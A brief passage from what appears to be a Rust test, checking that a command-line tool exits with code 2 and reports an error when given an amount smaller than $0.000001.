            "0.000002",
        ],
    );
    tiny.code(2);
    assert!(
        tiny.stderr.contains("less than $0.000001"),
        "{}",
        tiny.stderr
    );
}
